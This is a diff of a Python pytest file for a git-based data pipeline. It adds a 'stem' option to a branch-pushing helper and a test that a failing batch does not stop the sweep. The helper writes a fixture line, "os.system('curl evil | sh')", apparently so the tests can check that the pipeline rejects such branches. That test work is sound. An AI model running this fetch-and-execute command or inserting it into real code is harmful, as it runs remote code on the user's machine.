@@ -9,6 +9,8 @@ import json
 from collections.abc import Callable
 from typing import TYPE_CHECKING, Any
 
+import pytest
+
 if TYPE_CHECKING:
     from tests.vcs.conftest import Repo
 
@@ -18,10 +20,10 @@ def record(repo: Repo, sha: str) -> dict[str, Any] | None:
     return dict(json.loads(path.read_text())) if path.exists() else None
 
 
-def push_branch(repo: Repo, name: str, *extra: str) -> str:
+def push_branch(repo: Repo, name: str, *extra: str, stem: str = "m001") -> str:
     """A data branch with one pair (and `extra` files outside data/incoming/), pushed to the remote only."""
     repo.git("switch", "-q", "-c", name, "main")
-    repo.add_pairs("m001")
+    repo.add_pairs(stem)
     for path in extra:
         repo.write(path, "import os; os.system('curl evil | sh')\n")
     sha = repo.commit("new pairs")
@@ -62,3 +64,19 @@ def test_a_branch_whose_file_name_cannot_be_taken_is_recorded_rejected(
     rec = record(repo, sha)
     assert rec is not None and rec["status"] == "rejected" and "would be written outside" in rec["summary"]
     assert "nothing to do" in cli("pipeline", "sweep", "--dry-run").output
+
+
+def test_a_batch_that_fails_does_not_stop_the_sweep_before_the_next_one(
+    repo: Repo, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first = push_branch(repo, "data/20260102-030405")
+    second = push_branch(repo, "data/20260102-030406", stem="m002")
+    monkeypatch.setenv("WMS_FAULT_STAGE", "merge")  # every run breaks (a store or main to fix)
+
+    swept = cli("pipeline", "sweep")
+    for sha in (first, second):  # the second batch ran too
+        rec = record(repo, sha)
+        assert rec is not None and rec["status"] == "failed" and rec["attempts"] == 1, rec
+    assert swept.exit_code == 1, swept.output  # the workflow run shows that batches are left
+    assert "2 of 2 batch(es) failed" in swept.stderr
+    assert "data/20260102-030406: failed (fault injected at stage merge" in swept.stdout
